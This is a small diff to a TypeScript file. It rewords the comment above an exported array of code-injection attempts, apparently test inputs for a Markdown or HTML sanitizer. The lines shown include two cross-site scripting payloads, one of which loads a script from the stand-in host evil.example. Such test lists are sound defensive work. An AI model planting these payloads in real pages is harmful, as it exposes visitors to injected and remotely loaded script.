@@ -1,4 +1,6 @@
-/** Ways to inject code into a page, as Markdown, HTML or both. Some take effect only when parsed twice. */
+/**
+ * Attempts to inject code into a page, as Markdown, HTML or both. Some of them work only if the output is parsed twice.
+ */
 export const hostile: string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
